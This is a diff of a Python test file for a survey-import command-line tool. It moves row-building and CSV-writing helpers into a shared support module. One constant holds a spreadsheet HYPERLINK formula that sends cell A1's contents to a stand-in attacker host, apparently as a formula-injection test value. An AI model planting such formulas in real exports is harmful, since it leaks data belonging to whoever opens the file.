@@ -12,44 +12,13 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from bot.cli.main import main
-from tests.support.analysis_fixtures import EXPORT_COLUMNS
+from tests.support.import_rows import COLUMNS, person, write_csv
 
-COLUMNS = list(EXPORT_COLUMNS)
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 
 
 def surveibot(*args: str | Path) -> int:
     return main([str(a) for a in args])
-
-
-def person(
-    when: str,
-    name: str = "Budi",
-    *,
-    period: str = "2025-03",
-    score: str = "4",
-    institution: str = "PT X",
-    suggestion: str = "",
-) -> list[str]:
-    return [
-        period,
-        "cpob",
-        when,
-        name,
-        "30",
-        "Laki-laki",
-        "D4/S1",
-        "Lainnya",
-        institution,
-        *[score] * 13,
-        suggestion,
-    ]
-
-
-def write_csv(path: Path, rows: list[list[str]], columns: list[str] = COLUMNS) -> Path:
-    with path.open("w", encoding="utf-8", newline="") as fh:
-        csv.writer(fh).writerows([columns, *rows])
-    return path
 
 
 def stored(database: Path, column: str = "submitted_at") -> list[str]:
